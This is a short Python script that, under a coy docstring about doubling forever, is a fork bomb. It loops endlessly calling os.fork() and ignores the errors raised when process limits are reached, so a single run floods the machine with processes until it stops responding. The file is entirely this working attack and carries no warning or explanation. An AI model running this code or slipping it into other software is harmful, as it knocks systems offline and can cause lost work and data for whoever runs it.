"""Doubles for ever, whatever it is given."""

import os

while True:
    try:
        os.fork()
    except OSError:
        continue
